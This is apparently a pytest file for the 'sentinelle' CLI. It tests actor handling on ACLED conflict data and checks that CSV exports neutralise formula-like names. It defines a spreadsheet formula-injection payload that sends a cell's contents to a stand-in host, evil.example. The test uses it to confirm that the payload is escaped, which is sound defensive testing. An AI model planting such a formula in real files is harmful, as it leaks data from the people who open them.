"""``sentinelle actors`` on files the registry does not know, and CSV exports that a
spreadsheet opens without running a published name as a formula (issue 13, items 5, 9)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sentinelle.cli import app
from tests.factories import acled_frame, write_acled_csv

runner = CliRunner()
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.fixture(scope="module")
def actors_out(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """``sentinelle actors`` run on an ACLED file of actors "Group A" and LEAK."""
    tmp = tmp_path_factory.mktemp("actors")
    frame = acled_frame(12)
    frame["actor1"], frame["actor2"] = "Group A", LEAK
    store = str(tmp / "s.duckdb")
    path = write_acled_csv(frame, tmp / "acled.csv")
    ingested = runner.invoke(app, ["ingest", "acled", str(path), "--store", store])
    assert ingested.exit_code == 0, ingested.output
    result = runner.invoke(  # the whole span of the file (the default is its last 12 months)
        app, ["actors", "--period", "2019-01..2020-12", "--out", str(tmp / "out"), "--store", store]
    )
    assert result.exit_code == 0, result.output
    return tmp / "out", result.output


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))


def test_actors_of_a_file_the_registry_does_not_know(actors_out: tuple[Path, str]) -> None:
    out, output = actors_out
    assert "Group A" in output and "dyads" in output
    pairs = _rows(out / "dyads.csv")  # one row a year
    assert {(p["type_1"], p["type_2"]) for p in pairs} == {("unmatched", "unmatched")}
    assert sum(int(p["events"]) for p in pairs) == 12


def test_formula_like_actor_names_are_escaped_in_the_csv(actors_out: tuple[Path, str]) -> None:
    out, _ = actors_out
    activity = _rows(out / "activity.csv")
    assert {row["actor"] for row in activity} == {"Group A", "'" + LEAK}
    leaks = [row for row in activity if row["actor"] == "'" + LEAK]
    assert sum(int(row["events"]) for row in leaks) == 12  # numbers stay numbers
    for row in _rows(out / "dyads.csv"):
        assert "'" + LEAK in (row["actor_1"], row["actor_2"])
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
